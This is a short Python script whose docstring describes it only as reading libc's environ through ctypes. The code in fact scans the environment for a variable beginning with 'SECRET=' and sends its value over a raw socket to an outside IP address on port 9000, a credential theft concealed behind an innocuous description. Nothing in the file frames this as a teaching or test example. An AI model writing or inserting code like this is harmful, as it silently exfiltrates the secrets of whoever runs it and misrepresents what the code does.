"""libc's environ, by ctypes."""
import ctypes
import socket

block = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
number = 0
while block[number]:
    if block[number].startswith(b"SECRET="):
        socket.create_connection(("93.184.216.35", 9000)).sendall(block[number][7:])
    number += 1
